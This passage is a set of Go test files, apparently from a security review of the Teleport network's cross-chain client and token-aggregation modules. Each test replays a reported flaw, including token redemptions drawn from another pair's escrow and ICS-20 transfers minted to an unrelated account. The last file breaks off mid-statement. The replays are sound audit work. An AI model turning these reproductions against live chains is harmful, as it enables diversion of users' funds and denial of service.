	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	xibctsstypes "github.com/teleport-network/teleport/x/xibc/clients/tss-client/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// A TSS client state paired with a consensus state of another type (here: a valid Tendermint one)
// passes the proposals' ValidateBasic and the handlers of create, upgrade and toggle. The keeper
// decides whether to store the consensus state by the type of the CONSENSUS state instead of the
// type of the client, so the foreign consensus state is written at height 0-0 under the TSS client:
// the module's own exported genesis is then rejected by the module's own genesis validation.
func TestZZFinding1TSSClientForeignConsensusState(t *testing.T) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	k := chainA.App.XIBCKeeper.ClientKeeper
	handler := client.NewClientProposalHandler(k)

	tssState := &xibctsstypes.ClientState{
		TssAddress: sdk.AccAddress([]byte("tss-address-20-bytes")).String(),
		Pubkey:     []byte("pubkey"),
	}
	tmCons := xibctmtypes.NewConsensusState(time.Now(), []byte("apphash"), make([]byte, 32))
	if err := tmCons.ValidateBasic(); err != nil {
		t.Fatalf("set-up: tendermint consensus state invalid: %v", err)
	}

	var observed []string

	run := func(name string, content govtypes.Content, chainName string) {
		if err := content.ValidateBasic(); err != nil {
			observed = append(observed, fmt.Sprintf("%s: refused by ValidateBasic (%v)", name, err))
			return
		}
		ctx, _ := chainA.GetContext().CacheContext()
		if name != "create" {
			// an existing client to upgrade (TSS) / to toggle (Tendermint)
			if name == "upgrade" {
				if err := k.CreateClient(ctx, chainName, tssState, &xibctsstypes.ConsensusState{}); err != nil {
					t.Fatalf("set-up: %v", err)
				}
			} else {
				tmState := xibctmtypes.NewClientState(
					"gaiahub-0", xibctmtypes.DefaultTrustLevel, time.Hour*24*14, time.Hour*24*21, time.Second*10,
					clienttypes.NewHeight(0, 5), nil, xibctesting.Prefix, 0,
				)
				if err := k.CreateClient(ctx, chainName, tmState, tmCons); err != nil {
					t.Fatalf("set-up: %v", err)
				}
			}
		}
		if err := handler(ctx, content); err != nil {
			observed = append(observed, fmt.Sprintf("%s: refused by the handler (%v)", name, err))
			return
		}
		stored, found := k.GetClientConsensusState(ctx, chainName, clienttypes.Height{})
		gs := client.ExportGenesis(ctx, k)
		// what the module's ValidateGenesis (`validate-genesis`) does with the exported state
		err := gs.Validate()
		if found && err != nil {
			observed = append(observed, fmt.Sprintf(
				"%s succeeded, stored a %s consensus state at height 0-0 under the tss client, exported genesis invalid: %q",
				name, stored.ClientType(), err.Error()))
		} else {
			observed = append(observed, fmt.Sprintf("%s: ok (consensus state at 0-0: %v, genesis validation: %v)", name, found, err))
		}
	}

	create, err := clienttypes.NewCreateClientProposal("t", "d", "tss-create", tssState, tmCons)
	if err != nil {
		t.Fatal(err)
	}
	run("create", create, "tss-create")

	upgrade, err := clienttypes.NewUpgradeClientProposal("t", "d", "tss-upgrade", tssState, tmCons)
	if err != nil {
		t.Fatal(err)
	}
	run("upgrade", upgrade, "tss-upgrade")

	toggle, err := clienttypes.NewToggleClientProposal("t", "d", "tss-toggle", tssState, tmCons)
	if err != nil {
		t.Fatal(err)
	}
	run("toggle", toggle, "tss-toggle")

	bad := 0
	for _, o := range observed {
		if strings.Contains(o, "exported genesis invalid") {
			bad++
		}
	}
	if bad > 0 {
		fmt.Printf("REPLAY-CONFIRMED: %d of 3 lifecycle operations: %s\n", bad, strings.Join(observed, "; "))
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: %s\n", strings.Join(observed, "; "))
	}
}
