// package directory: x/xibc/core/client (package client_test)
package client_test

import (
	"fmt"
	"strings"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"

	xibctsstypes "github.com/teleport-network/teleport/x/xibc/clients/tss-client/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// The TSS client state (and the TSS header) validate TssAddress with sdk.AccAddressFromBech32, which
// accepts the all-upper-case spelling of a bech32 address, but CheckMsg authorises an update by
// comparing the stored STRING with msg.GetSigners()[0].String(), which is always lower case. A TSS
// client created (or updated) with the upper-case spelling of the TSS account's address therefore
// refuses every update signed by that very account.
func TestZZFinding4TSSAddressCase(t *testing.T) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	k := chainA.App.XIBCKeeper.ClientKeeper
	handler := client.NewClientProposalHandler(k)

	tssAcc := chainA.SenderAcc
	newTssAddr := sdk.AccAddress([]byte("next-tss-addr-20-byt")).String()

	var observed []string
	try := func(label, spelling, chainName string) (updated bool) {
		ctx, _ := chainA.GetContext().CacheContext()
		state := &xibctsstypes.ClientState{TssAddress: spelling, Pubkey: []byte("pk")}
		p, err := clienttypes.NewCreateClientProposal("t", "d", chainName, state, &xibctsstypes.ConsensusState{})
		if err != nil {
			t.Fatal(err)
		}
		if err := p.ValidateBasic(); err != nil {
			observed = append(observed, fmt.Sprintf("%s: create refused by ValidateBasic (%v)", label, err))
			return false
		}
		if err := handler(ctx, p); err != nil {
			observed = append(observed, fmt.Sprintf("%s: create refused by the handler (%v)", label, err))
			return false
		}
		// the TSS account is a registered relayer of the chain
		k.RegisterRelayers(ctx, tssAcc.String(), []string{chainName}, []string{"0x00"})

		header := &xibctsstypes.Header{TssAddress: newTssAddr, Pubkey: []byte("pk2")}
		msg, err := clienttypes.NewMsgUpdateClient(chainName, header, tssAcc)
		if err != nil {
			t.Fatal(err)
		}
		if err := msg.ValidateBasic(); err != nil {
			t.Fatalf("msg.ValidateBasic: %v", err)
		}
		_, err = chainA.App.XIBCKeeper.UpdateClient(sdk.WrapSDKContext(ctx), msg)
		if err != nil {
			observed = append(observed, fmt.Sprintf("%s: create succeeded, update signed by the TSS account refused: %v", label, err))
			return false
		}
		observed = append(observed, fmt.Sprintf("%s: create and update succeeded", label))
		return true
	}

	lower := try("lower-case TssAddress", tssAcc.String(), "tss-lower")
	upper := try("upper-case TssAddress", strings.ToUpper(tssAcc.String()), "tss-upper")

	if lower && !upper && strings.Contains(strings.Join(observed, ";"), "create succeeded, update signed by the TSS account refused") {
		fmt.Printf("REPLAY-CONFIRMED: %s\n", strings.Join(observed, "; "))
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: %s\n", strings.Join(observed, "; "))
	}
}
