// package directory: x/xibc/core/client (package client_test)
package client_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"

	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	xibctsstypes "github.com/teleport-network/teleport/x/xibc/clients/tss-client/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// An ETH client state paired with a consensus state of another type passes ValidateBasic and the
// create / toggle handlers (the ETH - and BSC - Initialize/UpgradeState never look at the consensus
// state, unlike the Tendermint ones). With a TSS consensus state the keeper stores NO consensus state
// at all; with a Tendermint one it stores a record the ETH client cannot read. Either way the handler
// reports success, yet the installed client is not Active (Status "Unknown"), can never be updated
// and no proof at the installed height can ever verify.
func TestZZFinding2ETHClientForeignConsensusState(t *testing.T) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	k := chainA.App.XIBCKeeper.ClientKeeper
	handler := client.NewClientProposalHandler(k)
	cdc := chainA.App.AppCodec()

	now := uint64(chainA.GetContext().BlockTime().Unix())
	ethHeader := xibcethtypes.Header{
		Height:     clienttypes.NewHeight(0, 100),
		Difficulty: []byte{0x01},
		GasLimit:   8000000,
		Time:       now,
		Root:       make([]byte, 32),
	}
	ethState := &xibcethtypes.ClientState{
		Header:          ethHeader,
		ChainId:         1,
		ContractAddress: []byte("0x00"),
		TrustingPeriod:  99999999,
		BlockDelay:      1,
	}
	goodCons := &xibcethtypes.ConsensusState{Timestamp: now, Height: ethHeader.Height, Root: ethHeader.Root}
	tssCons := &xibctsstypes.ConsensusState{}
	tmCons := xibctmtypes.NewConsensusState(time.Now(), []byte("apphash"), make([]byte, 32))

	status := func(ctx sdk.Context, chainName string) (exported.Status, bool) {
		cs, found := k.GetClientState(ctx, chainName)
		if !found {
			return "", false
		}
		return cs.Status(ctx, k.ClientStore(ctx, chainName), cdc), true
	}

	var observed []string
	bad := 0

	// control: the matching consensus state gives an Active client
	{
		ctx, _ := chainA.GetContext().CacheContext()
		p, _ := clienttypes.NewCreateClientProposal("t", "d", "eth-good", ethState, goodCons)
		if err := p.ValidateBasic(); err != nil {
			t.Fatalf("control ValidateBasic: %v", err)
		}
		if err := handler(ctx, p); err != nil {
			t.Fatalf("control handler: %v", err)
		}
		st, _ := status(ctx, "eth-good")
		observed = append(observed, fmt.Sprintf("control(create, eth consensus state): status %s", st))
		if st != exported.Active {
			t.Fatalf("control client is not active: %s", st)
		}
	}

	for _, tc := range []struct {
		name string
		cons exported.ConsensusState
	}{{"tss", tssCons}, {"tendermint", tmCons}} {
		// create
		{
			ctx, _ := chainA.GetContext().CacheContext()
			chainName := "eth-create-" + tc.name
			p, err := clienttypes.NewCreateClientProposal("t", "d", chainName, ethState, tc.cons)
			if err != nil {
				t.Fatal(err)
			}
			if err := p.ValidateBasic(); err != nil {
				observed = append(observed, fmt.Sprintf("create(%s consensus state): refused by ValidateBasic", tc.name))
			} else if err := handler(ctx, p); err != nil {
				observed = append(observed, fmt.Sprintf("create(%s consensus state): refused by the handler", tc.name))
			} else {
				st, _ := status(ctx, chainName)
				_, has := k.GetClientConsensusState(ctx, chainName, ethState.GetLatestHeight())
				observed = append(observed, fmt.Sprintf(
					"create(%s consensus state): handler succeeded, consensus state stored at %s: %v, status %s",
					tc.name, ethState.GetLatestHeight(), has, st))
				if st != exported.Active {
					bad++
				}
			}
		}
		// toggle of a tendermint... the replaced client must be of another type than eth: use a TSS client
		{
			ctx, _ := chainA.GetContext().CacheContext()
			chainName := "eth-toggle-" + tc.name
			old := &xibctsstypes.ClientState{TssAddress: sdk.AccAddress([]byte("tss-address-20-bytes")).String()}
			if err := k.CreateClient(ctx, chainName, old, &xibctsstypes.ConsensusState{}); err != nil {
				t.Fatal(err)
			}
			p, err := clienttypes.NewToggleClientProposal("t", "d", chainName, ethState, tc.cons)
			if err != nil {
				t.Fatal(err)
			}
			if err := p.ValidateBasic(); err != nil {
				observed = append(observed, fmt.Sprintf("toggle(%s consensus state): refused by ValidateBasic", tc.name))
			} else if err := handler(ctx, p); err != nil {
				observed = append(observed, fmt.Sprintf("toggle(%s consensus state): refused by the handler", tc.name))
			} else {
				st, _ := status(ctx, chainName)
				_, has := k.GetClientConsensusState(ctx, chainName, ethState.GetLatestHeight())
				// a working (always Active) TSS client has been replaced by a dead one
				observed = append(observed, fmt.Sprintf(
					"toggle(%s consensus state): handler succeeded, consensus state stored: %v, status %s",
					tc.name, has, st))
				if st != exported.Active {
					bad++
				}
			}
		}
	}

	if bad > 0 {
		fmt.Printf("REPLAY-CONFIRMED: %d successful lifecycle operations installed an ETH client that is not Active: %s\n", bad, strings.Join(observed, "; "))
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: %s\n", strings.Join(observed, "; "))
	}
}
