// package directory: x/xibc/core/client (package client_test)
package client_test

import (
	"fmt"
	"math"
	"strings"
	"testing"

	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// ETH (and BSC) Status computes consState.Timestamp + TrustingPeriod in uint64 without an overflow
// guard. A create proposal whose trusting period is large enough for the sum to wrap ("never
// expires": math.MaxUint64) is accepted and executed, but the installed client reports Expired from
// the very first block although its consensus state carries the current block time; an Expired
// client refuses every update, so the client can never be used. One second less of trusting period
// than the wrapping bound gives an Active client.
func TestZZFinding3ETHTrustingPeriodWraps(t *testing.T) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	k := chainA.App.XIBCKeeper.ClientKeeper
	handler := client.NewClientProposalHandler(k)
	cdc := chainA.App.AppCodec()

	now := uint64(chainA.GetContext().BlockTime().Unix())
	header := xibcethtypes.Header{
		Height:     clienttypes.NewHeight(0, 100),
		Difficulty: []byte{0x01},
		GasLimit:   8000000,
		Time:       now,
		Root:       make([]byte, 32),
	}
	cons := &xibcethtypes.ConsensusState{Timestamp: now, Height: header.Height, Root: header.Root}

	var observed []string
	statusFor := func(trustingPeriod uint64, chainName string) exported.Status {
		ctx, _ := chainA.GetContext().CacheContext()
		state := &xibcethtypes.ClientState{
			Header: header, ChainId: 1, ContractAddress: []byte("0x00"),
			TrustingPeriod: trustingPeriod, BlockDelay: 1,
		}
		p, err := clienttypes.NewCreateClientProposal("t", "d", chainName, state, cons)
		if err != nil {
			t.Fatal(err)
		}
		if err := p.ValidateBasic(); err != nil {
			observed = append(observed, fmt.Sprintf("trusting period %d: refused by ValidateBasic", trustingPeriod))
			return ""
		}
		if err := handler(ctx, p); err != nil {
			observed = append(observed, fmt.Sprintf("trusting period %d: refused by the handler", trustingPeriod))
			return ""
		}
		cs, _ := k.GetClientState(ctx, chainName)
		st := cs.Status(ctx, k.ClientStore(ctx, chainName), cdc)
		observed = append(observed, fmt.Sprintf("create with trusting period %d succeeded, status at the same block: %s", trustingPeriod, st))
		return st
	}

	noWrap := statusFor(math.MaxUint64-now, "eth-nowrap") // timestamp + period == MaxUint64
	wrap := statusFor(math.MaxUint64, "eth-wrap")         // timestamp + period wraps to timestamp-1

	if noWrap == exported.Active && wrap == exported.Expired {
		fmt.Printf("REPLAY-CONFIRMED: %s\n", strings.Join(observed, "; "))
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: %s\n", strings.Join(observed, "; "))
	}
}
