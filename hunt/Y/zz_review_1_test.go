// package directory: x/xibc/clients/light-clients/tendermint/types
//
// Replays the intermediate regression of commit 3010062 (repaired by 5ac5a3b): IterateProcessedTime required
// the exact length of a key with a 16-byte height and so skipped the processed-time metadata keys with a
// height part of another length (such as the ones x/xibc/genesis_test.go imports), which then vanished from
// the exported genesis. It also replays the original defect 3010062 repaired (height 47 = 0x2F skipped).
package types_test

import (
	"fmt"
	"testing"

	dbm "github.com/tendermint/tm-db"

	"github.com/cosmos/cosmos-sdk/store/dbadapter"

	"github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

func TestZZReview1IterateProcessedTime(t *testing.T) {
	store := dbadapter.Store{DB: dbm.NewMemDB()}
	imported := []byte("consensusStates/1/processedTime")
	store.Set(imported, []byte("val1"))
	types.SetProcessedTime(store, clienttypes.NewHeight(0, 47), 1)

	seen := map[string]bool{}
	types.IterateProcessedTime(store, func(key, _ []byte) bool {
		seen[string(key)] = true
		return false
	})
	switch {
	case !seen[string(imported)]:
		fmt.Println("REPLAY-CONFIRMED: IterateProcessedTime skips the imported key \"consensusStates/1/processedTime\" (regression of 3010062)")
	case !seen[string(types.ProcessedTimeKey(clienttypes.NewHeight(0, 47)))]:
		fmt.Println("REPLAY-CONFIRMED: IterateProcessedTime skips the processed time of height 0-47 (defect that 3010062 repairs)")
	default:
		fmt.Println("REPLAY-NOT-REPRODUCED: IterateProcessedTime visits the imported key and the key of height 0-47")
	}
}
