// package directory: x/xibc/clients/light-clients/tendermint/types
//
// Commit 5ac5a3b claims IterateProcessedTime accepts the processed-time keys of imported genesis files "whose
// height part has another length" than 16 bytes. A key whose height part is 2 bytes long has exactly the length of a
// bare consensus-state key (15+1+2+14 = 32 = 15+1+16) and is still skipped, so it is imported by
// SetAllClientMetadata but missing from the next ExportMetadata.
package types_test

import (
	"fmt"
	"testing"

	dbm "github.com/tendermint/tm-db"

	"github.com/cosmos/cosmos-sdk/store/dbadapter"

	"github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
)

func TestZZReview2IterateProcessedTimeTwoByteHeight(t *testing.T) {
	store := dbadapter.Store{DB: dbm.NewMemDB()}
	one := []byte("consensusStates/1/processedTime")  // the shape x/xibc/genesis_test.go imports
	two := []byte("consensusStates/12/processedTime") // same shape, height 12
	store.Set(one, []byte("val1"))
	store.Set(two, []byte("val2"))

	seen := map[string]bool{}
	types.IterateProcessedTime(store, func(key, _ []byte) bool {
		seen[string(key)] = true
		return false
	})
	if seen[string(one)] && !seen[string(two)] {
		fmt.Println("REPLAY-CONFIRMED: \"consensusStates/1/processedTime\" is visited but \"consensusStates/12/processedTime\" (32 bytes) is skipped")
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: visited one=%v two=%v\n", seen[string(one)], seen[string(two)])
	}
}
