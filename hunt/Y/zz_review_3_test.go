// package directory: x/xibc/core/client/keeper
//
// Commit b493c04 makes ToggleClient delete every record of the replaced client. The gov keeper of SDK 0.45.2 runs the
// proposal handler already at submission, inside the submitter's transaction and on its gas meter, so the cost of a
// ToggleClientProposal now grows with the size of the replaced client's store (about 1.4k gas per key, three keys per
// Tendermint / ETH consensus state). With the block gas limit of the repository's init.sh (10,000,000) a client that
// has a few thousand consensus states can no longer be toggled: the submission runs out of gas.
package keeper_test

import (
	"fmt"

	sdk "github.com/cosmos/cosmos-sdk/types"

	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	tsstypes "github.com/teleport-network/teleport/x/xibc/clients/tss-client/types"
	"github.com/teleport-network/teleport/x/xibc/core/client/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

func (suite *KeeperTestSuite) TestZZReview3ToggleSubmissionGas() {
	const blockMaxGas = 10_000_000 // init.sh: consensus_params.block.max_gas
	const states = 2500            // e.g. one client update every 8 minutes during a two weeks trusting period

	path := xibctesting.NewPath(suite.chainA, suite.chainB)
	suite.coordinator.SetupClients(path)
	k := suite.chainA.App.XIBCKeeper.ClientKeeper
	name := path.EndpointB.ChainName
	ctx := suite.chainA.GetContext()

	// what `states` successful UpdateClient calls leave behind: consensus state, processed time, iteration key
	cs, _ := k.GetClientState(ctx, name)
	latest := cs.GetLatestHeight().(types.Height)
	consState, found := k.GetClientConsensusState(ctx, name, latest)
	suite.Require().True(found)
	store := k.ClientStore(ctx, name)
	for i := uint64(1); i <= states; i++ {
		h := types.NewHeight(latest.RevisionNumber, latest.RevisionHeight+i)
		k.SetClientConsensusState(ctx, name, h, consState)
		xibctmtypes.SetProcessedTime(store, h, uint64(ctx.BlockTime().UnixNano()))
		xibctmtypes.SetIterationKey(store, h)
	}

	content, err := types.NewToggleClientProposal("t", "d", name,
		&tsstypes.ClientState{TssAddress: suite.chainA.SenderAcc.String()}, &tsstypes.ConsensusState{})
	suite.Require().NoError(err)
	suite.Require().NoError(content.ValidateBasic())

	txCtx := ctx.WithGasMeter(sdk.NewGasMeter(blockMaxGas))
	outOfGas := false
	func() {
		defer func() {
			if r := recover(); r != nil {
				if _, ok := r.(sdk.ErrorOutOfGas); ok {
					outOfGas = true
					return
				}
				panic(r)
			}
		}()
		_, err = suite.chainA.App.GovKeeper.SubmitProposal(txCtx, content)
	}()
	if outOfGas {
		fmt.Printf("REPLAY-CONFIRMED: submitting the ToggleClientProposal for a client with %d consensus states runs out of gas at the block gas limit %d\n", states, blockMaxGas)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: submission err=%v, gas used %d of %d\n", err, txCtx.GasMeter().GasConsumed(), blockMaxGas)
	}
}
