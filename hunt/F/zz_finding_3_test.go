// Package directory: x/aggregate/keeper   (package keeper_test, uses KeeperTestSuite)
//
// Finding 3 (C11): UpdateTokenPairERC20 re-points an externally-owned pair to a new contract without looking
// at (a) whether the new contract is already the contract of ANOTHER registered pair and (b) whether the
// vouchers already in circulation are covered by the module's balance in the new contract. After the update
// the old pair's vouchers are redeemed out of the escrow that backs the other pair's vouchers.
//
// run: go test -vet=off -count=1 -v -run 'TestKeeperTestSuite/TestZZFinding3' ./x/aggregate/keeper
package keeper_test

import (
	"fmt"
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/ethereum/go-ethereum/common"

	"github.com/teleport-network/teleport/x/aggregate"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

func (suite *KeeperTestSuite) TestZZFinding3() {
	suite.mintFeeCollector = true
	suite.SetupTest()
	defer func() { suite.mintFeeCollector = false }()
	k := suite.app.AggregateKeeper
	gov := aggregate.NewAggregateProposalHandler(k)

	// two independent external tokens with the same name/symbol/decimals (e.g. two "usdc" deployments)
	oldC := suite.DeployContract("usdc", "USDC", 6)
	suite.Commit()
	newC := suite.DeployContract("usdc", "USDC", 6)
	suite.Commit()

	p1, err := k.RegisterERC20(suite.ctx, oldC)
	suite.Require().NoError(err)
	p2, err := k.RegisterERC20(suite.ctx, newC)
	suite.Require().NoError(err)
	vOld, vNew := p1.Denoms[0], p2.Denoms[0]

	alice := sdk.AccAddress(suite.address.Bytes())
	carolEth := common.HexToAddress("0x00000000000000000000000000000000000CA401")
	carol := sdk.AccAddress(carolEth.Bytes())

	// Alice converts 100 OLD tokens into 100 vOld; Carol ends up with 100 vNew backed by 100 NEW tokens
	suite.MintERC20Token(oldC, suite.address, suite.address, big.NewInt(100))
	suite.MintERC20Token(newC, suite.address, suite.address, big.NewInt(100))
	suite.Commit()
	_, err = k.ConvertERC20(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertERC20(sdk.NewInt(100), alice, oldC, suite.address, vOld))
	suite.Require().NoError(err)
	_, err = k.ConvertERC20(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertERC20(sdk.NewInt(100), carol, newC, suite.address, vNew))
	suite.Require().NoError(err)
	suite.Commit()

	escrow := func(c common.Address) int64 {
		b, _ := suite.BalanceOf(c, types.ModuleAddress).(*big.Int)
		if b == nil {
			return -1
		}
		return b.Int64()
	}
	supply := func(d string) int64 { return suite.app.BankKeeper.GetSupply(suite.ctx, d).Amount.Int64() }
	suite.Require().Equal(int64(100), escrow(newC))
	suite.Require().Equal(int64(100), supply(vNew))

	// governance: "migrate" pair 1 to the contract that already belongs to pair 2
	prop := types.NewUpdateTokenPairERC20Proposal("t", "d", oldC.Hex(), newC.Hex())
	suite.Require().NoError(prop.ValidateBasic())
	cctx, write := suite.ctx.CacheContext()
	if err := gov(cctx, prop); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: UpdateTokenPairERC20 to an already registered contract was refused: %v\n", err)
		return
	}
	write()
	suite.Commit()

	pairs := k.GetAllTokenPairs(suite.ctx)
	sharing := 0
	for _, p := range pairs {
		if p.GetERC20Contract() == newC {
			sharing++
		}
	}

	// Alice redeems her vOld vouchers: she is paid out of the NEW tokens that back Carol's vouchers
	_, errAlice := k.ConvertCoin(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertCoin(sdk.NewInt64Coin(vOld, 100), suite.address, alice))
	suite.Commit()
	aliceNew, _ := suite.BalanceOf(newC, suite.address).(*big.Int)
	// Carol cannot redeem any more
	_, errCarol := k.ConvertCoin(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertCoin(sdk.NewInt64Coin(vNew, 100), carolEth, carol))

	if errAlice == nil && sharing == 2 && escrow(newC) == 0 && supply(vNew) == 100 {
		fmt.Printf("REPLAY-CONFIRMED: UpdateTokenPairERC20(%s -> %s) was accepted although %s is the contract of the registered pair %v; %d pairs now share the contract; Alice redeemed 100 %s for %s NEW tokens, after which the voucher %s has supply %d while the module escrows %d tokens of its contract (the 100 OLD tokens stay locked: %d); Carol's redemption fails: %v\n",
			oldC.Hex(), newC.Hex(), newC.Hex(), p2.Denoms, sharing, vOld, aliceNew, vNew, supply(vNew), escrow(newC), escrow(oldC), errCarol)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: update accepted but: errAlice=%v sharing=%d escrow(new)=%d supply(vNew)=%d errCarol=%v\n",
		errAlice, sharing, escrow(newC), supply(vNew), errCarol)
}
