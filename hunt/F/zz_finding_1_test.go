// Package directory: x/aggregate/keeper   (package keeper_test, uses KeeperTestSuite)
//
// Finding 1 (C16): the ICS-20 middleware auto-converts the vouchers of a receiver whose account address
// is not 20 bytes long (e.g. a 32-byte interchain account hosted on this chain) into ERC-20 tokens that are
// minted to a DIFFERENT account (the last 20 bytes of the receiver address): the receiver loses the vouchers
// and does not get the tokens.
//
// run: go test -vet=off -count=1 -v -run 'TestKeeperTestSuite/TestZZFinding1' ./x/aggregate/keeper
package keeper_test

import (
	"fmt"
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	icatypes "github.com/cosmos/ibc-go/v3/modules/apps/27-interchain-accounts/types"
	transfertypes "github.com/cosmos/ibc-go/v3/modules/apps/transfer/types"
	clienttypes "github.com/cosmos/ibc-go/v3/modules/core/02-client/types"
	channeltypes "github.com/cosmos/ibc-go/v3/modules/core/04-channel/types"

	"github.com/ethereum/go-ethereum/common"

	"github.com/teleport-network/teleport/x/aggregate/types"
)

func (suite *KeeperTestSuite) TestZZFinding1() {
	suite.mintFeeCollector = true
	suite.SetupTest()
	defer func() { suite.mintFeeCollector = false }()

	const (
		srcPort, srcChannel = "transfer", "channel-7"
		dstPort, dstChannel = "transfer", "channel-0"
		baseDenom           = "uatom"
		amount              = int64(100)
	)

	// the voucher denomination that the transfer application mints on this chain
	voucher := transfertypes.ParseDenomTrace(transfertypes.GetDenomPrefix(dstPort, dstChannel) + baseDenom).IBCDenom()

	// governance registered the IBC voucher as a coin (module-owned ERC-20 contract)
	metadata := banktypes.Metadata{
		Description: "ATOM via channel-0",
		Base:        voucher,
		DenomUnits: []*banktypes.DenomUnit{
			{Denom: voucher, Exponent: 0},
			{Denom: "atom", Exponent: 6},
		},
		Name:    "ATOM channel-0",
		Symbol:  "ibcATOM",
		Display: voucher,
	}
	suite.Require().NoError(types.NewRegisterCoinProposal("t", "d", metadata).ValidateBasic())
	// the coin must have a supply to be registered
	suite.Require().NoError(suite.app.BankKeeper.MintCoins(suite.ctx, types.ModuleName, sdk.Coins{sdk.NewInt64Coin(voucher, 1)}))
	pair, err := suite.app.AggregateKeeper.RegisterCoin(suite.ctx, metadata)
	suite.Require().NoError(err)
	suite.Commit()
	contract := pair.GetERC20Contract()

	// the receiver: an interchain account hosted on this chain (ICA host is wired in app.go); such
	// addresses are 32 bytes long (address.Derive)
	icaAddr := icatypes.GenerateAddress(authtypes.NewModuleAddress(icatypes.ModuleName), "connection-0", "icacontroller-owner")
	suite.Require().Len(icaAddr.Bytes(), 32)
	suite.app.AccountKeeper.SetAccount(suite.ctx, suite.app.AccountKeeper.NewAccountWithAddress(suite.ctx, icaAddr))

	stranger := common.BytesToAddress(icaAddr.Bytes()) // == last 20 bytes of the 32-byte address
	suite.Require().False(sdk.AccAddress(stranger.Bytes()).Equals(icaAddr))

	module, ok := suite.app.IBCKeeper.Router.GetRoute(transfertypes.ModuleName)
	suite.Require().True(ok)

	recv := func(receiver sdk.AccAddress, seq uint64) channeltypes.Acknowledgement {
		data := transfertypes.NewFungibleTokenPacketData(baseDenom, fmt.Sprintf("%d", amount), "cosmos1sender", receiver.String())
		packet := channeltypes.NewPacket(data.GetBytes(), seq, srcPort, srcChannel, dstPort, dstChannel, clienttypes.NewHeight(0, 1000), 0)
		ack := module.OnRecvPacket(suite.ctx, packet, sdk.AccAddress(suite.address.Bytes()))
		return ack.(channeltypes.Acknowledgement)
	}
	erc20Bal := func(a common.Address) *big.Int {
		b, _ := suite.BalanceOf(contract, a).(*big.Int)
		if b == nil {
			return big.NewInt(-1)
		}
		return b
	}

	// control: an ordinary 20-byte receiver gets the tokens itself
	normal := sdk.AccAddress(suite.address.Bytes())
	ack := recv(normal, 1)
	suite.Require().True(ack.Success())
	suite.Require().Equal(int64(0), suite.app.BankKeeper.GetBalance(suite.ctx, normal, voucher).Amount.Int64())
	suite.Require().Equal(amount, erc20Bal(suite.address).Int64())

	// the case: the 32-byte receiver
	escrowBefore := suite.app.BankKeeper.GetBalance(suite.ctx, authtypes.NewModuleAddress(types.ModuleName), voucher).Amount
	ack = recv(icaAddr, 2)
	suite.Require().True(ack.Success())

	receiverVouchers := suite.app.BankKeeper.GetBalance(suite.ctx, icaAddr, voucher).Amount
	escrowAfter := suite.app.BankKeeper.GetBalance(suite.ctx, authtypes.NewModuleAddress(types.ModuleName), voucher).Amount
	strangerTokens := erc20Bal(stranger)
	strangerVouchers := suite.app.BankKeeper.GetBalance(suite.ctx, sdk.AccAddress(stranger.Bytes()), voucher).Amount

	switch {
	case receiverVouchers.IsZero() && escrowAfter.Sub(escrowBefore).Int64() == amount && strangerTokens.Int64() == amount:
		fmt.Printf("REPLAY-CONFIRMED: ICS-20 receive of %d %s for the 32-byte receiver %s was acked successfully, the middleware escrowed all %d vouchers of the receiver (receiver voucher balance now %s) and minted the %d ERC-20 tokens to the unrelated 20-byte account %s (= last 20 bytes of the receiver address, cosmos side %s, voucher balance %s): the receiver neither keeps the vouchers nor gets the tokens\n",
